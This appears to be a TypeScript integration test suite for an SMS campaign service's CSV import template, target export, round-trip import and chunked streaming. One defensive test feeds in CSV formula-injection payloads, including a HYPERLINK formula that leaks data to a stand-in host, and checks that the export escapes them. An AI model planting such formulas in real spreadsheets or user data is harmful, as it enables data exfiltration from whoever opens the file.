import { request as httpRequest, IncomingMessage } from 'node:http';
import { signAccessToken } from '@sms/application';
import { parse } from 'csv-parse/sync';
import { createCampaign, EmbeddedService, importCsv, startEmbeddedService } from '../support/embedded-service';
import { eventually, HttpClient } from '../support/http-client';

const LATER = '2030-01-07T09:00:00Z';
const TEMPLATE_COLUMNS = ['phoneNumber', 'startDate', 'priority', 'insertIfDuplicate'];
const UTF8_BOM = [0xef, 0xbb, 0xbf];

const relance = { name: 'relance', fields: [{ key: 'firstName', label: 'Prénom', type: 'string' }] };
const payment = {
  name: 'paiement',
  fields: [
    { key: 'amount', label: 'Montant', type: 'number' },
    { key: 'firstName', label: 'Prénom', type: 'string' },
    { key: 'dueDate', label: 'Échéance', type: 'date' },
  ],
};

type Download = { status: number; headers: Headers; bytes: Buffer; text: string };
type TargetPage = { items: Array<{ id: string; phoneNumber: string; startDate: string | null; priority: number; status: string }> };

/** The import template and the streamed CSV export of a campaign's targets, through HTTP. */
describe('target export', () => {
  let embedded: EmbeddedService;
  let maker: HttpClient;
  let makerToken: string;

  beforeAll(async () => {
    embedded = await startEmbeddedService();
    maker = embedded.maker;
    makerToken = await signAccessToken(embedded.secret, { sub: 'alice', roles: ['maker'] });
  });

  afterAll(async () => {
    await embedded?.stop();
  });

  /** GETs a path and keeps the body as bytes, so that the byte order mark stays visible. */
  async function download(path: string, token = makerToken): Promise<Download> {
    const response = await fetch(`${embedded.service.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
    const bytes = Buffer.from(await response.arrayBuffer());
    return { status: response.status, headers: response.headers, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
  }

  function rowsOf(csv: string): string[][] {
    return parse(csv, { bom: true }) as string[][];
  }

  async function campaignWithLayouts(layouts: unknown[]): Promise<string> {
    const campaignId = await createCampaign(maker);
    const defined = await maker.request('PUT', `/campaigns/${campaignId}/layouts`, { body: { layouts } });
    expect(defined.status).toBe(200);
    await eventually(
      async () =>
        (await maker.get<{ layouts: unknown[] }>(`/campaigns/${campaignId}`)).body.layouts.length === layouts.length ? true : undefined,
      10_000,
      'the layouts on the campaign',
    );
    return campaignId;
  }

  async function addTarget(campaignId: string, body: Record<string, unknown>): Promise<string> {
    const response = await maker.post(`/campaigns/${campaignId}/targets`, { startDate: LATER, ...body });
    expect(response.status).toBe(201);
    return String(response.body.id);
  }

  /** Exports until the read model shows `count` targets; returns the data rows, header first. */
  async function exportRows(campaignId: string, count: number, query = ''): Promise<string[][]> {
    return eventually(
      async () => {
        const exported = await download(`/campaigns/${campaignId}/targets/export${query}`);
        const rows = rowsOf(exported.text);
        return rows.length === count + 1 ? rows : undefined;
      },
      15_000,
      `an export of ${count} targets`,
    );
  }

  describe('import template', () => {
    it('lists the target columns, then each layout key once', async () => {
      const campaignId = await campaignWithLayouts([relance, payment]);

      const template = await download(`/campaigns/${campaignId}/targets/import-template`);

      expect(template.status).toBe(200);
      expect(template.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(template.headers.get('content-disposition')).toMatch(/^attachment; filename="REF-\d+-import-template\.csv"$/);
      expect([...template.bytes.subarray(0, 3)]).toEqual(UTF8_BOM);
      expect(template.text).toBe('\uFEFFphoneNumber,startDate,priority,insertIfDuplicate,firstName,amount,dueDate\r\n');
    });

    it('has only the target columns for a campaign without layouts', async () => {
      const campaignId = await createCampaign(maker, { body: 'Bonjour !' });

      const template = await download(`/campaigns/${campaignId}/targets/import-template`);

      expect(rowsOf(template.text)).toEqual([TEMPLATE_COLUMNS]);
    });
  });

  describe('export', () => {
    it('writes every target with its layout values in the template columns', async () => {
      const campaignId = await campaignWithLayouts([relance, payment]);
      await addTarget(campaignId, {
        phoneNumber: '06 12 34 56 78',
        priority: 8,
        layout: { name: 'paiement', values: { firstName: 'Zoé', amount: 42.5, dueDate: '2030-02-01' } },
      });
      await addTarget(campaignId, { phoneNumber: '+44 7911 123456', layout: { name: 'relance', values: { firstName: 'Élodie Müller' } } });

      const rows = await exportRows(campaignId, 2);
      const exported = await download(`/campaigns/${campaignId}/targets/export`);

      expect(exported.status).toBe(200);
      expect(exported.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(exported.headers.get('content-disposition')).toMatch(/^attachment; filename="REF-\d+-targets\.csv"$/);
      expect(exported.headers.get('cache-control')).toBe('no-store');
      expect([...exported.bytes.subarray(0, 3)]).toEqual(UTF8_BOM);
      expect(rows[0]).toEqual([...TEMPLATE_COLUMNS, 'firstName', 'amount', 'dueDate']);
      expect(sortRows(rows.slice(1))).toEqual([
        ["'+33612345678", '2030-01-07T09:00:00.000Z', '8', 'false', 'Zoé', '42.5', '2030-02-01'],
        ["'+447911123456", '2030-01-07T09:00:00.000Z', '5', 'false', 'Élodie Müller', '', ''],
      ]);
    });

    it('neutralises layout values that a spreadsheet would run as formulas', async () => {
      const campaignId = await campaignWithLayouts([relance]);
      const formulas = ['=HYPERLINK("http://example.test/?leak=1","clic")', '@SUM(1)', '-2+3', '+1', '\t=1'];
      for (const [index, firstName] of formulas.entries()) {
        await addTarget(campaignId, { phoneNumber: `06 20 00 00 0${index}`, layout: { name: 'relance', values: { firstName } } });
      }

      const rows = await exportRows(campaignId, formulas.length);

      expect(
        rows
          .slice(1)
          .map((row) => row[4])
          .sort(),
      ).toEqual(formulas.map((formula) => `'${formula}`).sort());
      const exported = await download(`/campaigns/${campaignId}/targets/export`);
      expect(exported.text).toContain(`"'=HYPERLINK(""http://example.test/?leak=1"",""clic"")"`);
    });

    it('exports only the targets in the status asked for', async () => {
      const campaignId = await campaignWithLayouts([relance]);
      await addTarget(campaignId, { phoneNumber: '06 30 00 00 01', layout: { name: 'relance', values: { firstName: 'Anna' } } });
      const removed = await addTarget(campaignId, {
        phoneNumber: '06 30 00 00 02',
        layout: { name: 'relance', values: { firstName: 'Bruno' } },
      });
      expect((await maker.post(`/campaigns/${campaignId}/targets/${removed}/remove`)).status).toBe(200);

      const cancelled = await exportRows(campaignId, 1, '?status=CANCELLED');
      const pending = await exportRows(campaignId, 1, '?status=PENDING');
      const delivered = await exportRows(campaignId, 0, '?status=DELIVERED');
      const cancelledFile = await download(`/campaigns/${campaignId}/targets/export?status=CANCELLED`);

      expect([cancelled[1][0], cancelled[1][4]]).toEqual(["'+33630000002", 'Bruno']);
      expect([pending[1][0], pending[1][4]]).toEqual(["'+33630000001", 'Anna']);
      expect(delivered).toEqual([[...TEMPLATE_COLUMNS, 'firstName']]);
      expect(cancelledFile.headers.get('content-disposition')).toMatch(/-targets-cancelled\.csv"$/);
    });

    it('rejects an unknown status, naming the field, the value and the rule', async () => {
      const campaignId = await createCampaign(maker);

      const response = await maker.get(`/campaigns/${campaignId}/targets/export?status=DONE`);

      expect(response).toMatchObject({
        status: 400,
        body: { code: 'REQUEST.INVALID', details: [{ field: 'status', value: 'DONE', rule: expect.stringContaining('PENDING') }] },
      });
    });

    it('answers 404 for an unknown campaign on both routes', async () => {
      const template = await maker.get('/campaigns/nope/targets/import-template');
      const exported = await maker.get('/campaigns/nope/targets/export');

      expect(template).toMatchObject({ status: 404, body: { code: 'CAMPAIGN.NOT_FOUND' } });
      expect(exported).toMatchObject({ status: 404, body: { code: 'CAMPAIGN.NOT_FOUND' } });
    });

    it('is open to makers only', async () => {
      const campaignId = await createCampaign(maker);
      const reporter = await signAccessToken(embedded.secret, { sub: 'rita', roles: ['reporter'] });

      const exported = await download(`/campaigns/${campaignId}/targets/export`, reporter);
      const template = await download(`/campaigns/${campaignId}/targets/import-template`, reporter);

      expect(exported.status).toBe(403);
      expect(template.status).toBe(403);
    });
  });

  describe('export then import', () => {
    it('gives another campaign the same numbers, priorities, start dates and layout values', async () => {
      const source = await campaignWithLayouts([relance, payment]);
      await addTarget(source, {
        phoneNumber: '06 40 00 00 01',
        priority: 9,
        layout: { name: 'paiement', values: { firstName: 'Zoé', amount: -12.75, dueDate: '2030-02-01' } },
      });
      await addTarget(source, { phoneNumber: '+1 202 555 0143', startDate: '2030-03-01T10:30:00+01:00', priority: 2 });
      await addTarget(source, { phoneNumber: '06 40 00 00 03', layout: { name: 'relance', values: { firstName: 'Ève, "la première"' } } });
      const sourceRows = await exportRows(source, 3);
      const sourceCsv = (await download(`/campaigns/${source}/targets/export`)).text;

      const copy = await campaignWithLayouts([relance, payment]);
      const outcome = await importCsv(maker, copy, sourceCsv);
      const copyRows = await exportRows(copy, 3);

      expect(outcome).toMatchObject({ status: 'DONE', processed: 3, imported: 3, rejected: 0 });
      expect(sortRows(copyRows.slice(1))).toEqual(sortRows(sourceRows.slice(1)));
      expect(await targetsByNumber(copy)).toEqual(await targetsByNumber(source));
    });

    it('keeps the apostrophe of a neutralised text value', async () => {
      const source = await campaignWithLayouts([relance]);
      await addTarget(source, { phoneNumber: '06 50 00 00 01', layout: { name: 'relance', values: { firstName: '=1+2' } } });
      await exportRows(source, 1);
      const sourceCsv = (await download(`/campaigns/${source}/targets/export`)).text;

      const copy = await campaignWithLayouts([relance]);
      await importCsv(maker, copy, sourceCsv);
      const [copied] = await eventually(
        async () => {
          const page = await maker.get<TargetPage>(`/campaigns/${copy}/targets`);
          return page.body.items.length === 1 ? page.body.items : undefined;
        },
        10_000,
        'the imported target',
      );
      const details = await maker.get<{ layout: { values: Record<string, unknown> } }>(`/campaigns/${copy}/targets/${copied.id}`);

      expect(copied.phoneNumber).toBe('+33650000001');
      expect(details.body.layout.values).toEqual({ firstName: "'=1+2" });
    });
  });

  describe('streaming', () => {
    it('sends 5,000 targets with chunked transfer encoding, in several chunks', async () => {
      const campaignId = await campaignWithLayouts([relance]);
      const lines = ['phoneNumber,firstName'];
      for (let index = 0; index < 5_000; index++) {
        lines.push(`06${String(60_000_000 + index)},Prénom ${index}`);
      }
      const outcome = await importCsv(maker, campaignId, lines.join('\n'));
      expect(outcome).toMatchObject({ status: 'DONE', imported: 5_000 });
      await exportRows(campaignId, 5_000);

      const { response, chunks, body } = await rawGet(`/campaigns/${campaignId}/targets/export`);

      expect(response.statusCode).toBe(200);
      expect(response.headers['transfer-encoding']).toBe('chunked');
      expect(response.headers['content-length']).toBeUndefined();
      expect(chunks).toBeGreaterThan(1);
      expect(rowsOf(body.toString('utf8'))).toHaveLength(5_001);
    });

    it('keeps serving after a client disconnects part-way', async () => {
      const campaignId = await campaignWithLayouts([relance]);
      const lines = ['phoneNumber,firstName'];
      for (let index = 0; index < 3_000; index++) {
        lines.push(`06${String(70_000_000 + index)},Prénom ${index}`);
      }
      await importCsv(maker, campaignId, lines.join('\n'));
      await exportRows(campaignId, 3_000);

      await abortAfterFirstChunk(`/campaigns/${campaignId}/targets/export`);
      const rows = await exportRows(campaignId, 3_000);

      expect(rows).toHaveLength(3_001);
    });
  });

  /**
   * Returns each target's priority, start date and layout values, keyed by number. Values are
   * compared as text and empty ones left out, because a CSV import stores every layout cell as
   * text, an empty cell as null.
   */
  async function targetsByNumber(campaignId: string): Promise<Record<string, unknown>> {
    const page = await maker.get<TargetPage>(`/campaigns/${campaignId}/targets?pageSize=100`);
    const entries = await Promise.all(
      page.body.items.map(async (item) => {
        const details = await maker.get<{ layout: { values: Record<string, unknown> } | null }>(
          `/campaigns/${campaignId}/targets/${item.id}`,
        );
        const values = Object.fromEntries(
          Object.entries(details.body.layout?.values ?? {})
            .filter(([, value]) => value !== null)
            .map(([key, value]) => [key, String(value)]),
        );
        return [item.phoneNumber, { priority: item.priority, startDate: item.startDate, values }] as const;
      }),
    );
    return Object.fromEntries(entries);
  }

  /** GETs a path over node:http, counting the body chunks as they arrive. */
  function rawGet(path: string): Promise<{ response: IncomingMessage; chunks: number; body: Buffer }> {
    return new Promise((resolve, reject) => {
      const request = httpRequest(`${embedded.service.url}${path}`, { headers: { authorization: `Bearer ${makerToken}` } }, (response) => {
        const parts: Buffer[] = [];
        response.on('data', (part: Buffer) => parts.push(part));
        response.on('end', () => resolve({ response, chunks: parts.length, body: Buffer.concat(parts) }));
        response.on('error', reject);
      });
      request.on('error', reject);
      request.end();
    });
  }

  /** GETs a path and closes the connection as soon as the first body bytes arrive. */
  function abortAfterFirstChunk(path: string): Promise<void> {
    return new Promise((resolve, reject) => {
      const request = httpRequest(`${embedded.service.url}${path}`, { headers: { authorization: `Bearer ${makerToken}` } }, (response) => {
        response.once('data', () => {
          request.destroy();
          resolve();
        });
      });
      request.on('error', (error: NodeJS.ErrnoException) => (error.code === 'ECONNRESET' ? resolve() : reject(error)));
      request.end();
    });
  }
});

function sortRows(rows: string[][]): string[][] {
  return [...rows].sort((left, right) => left[0].localeCompare(right[0]));
}
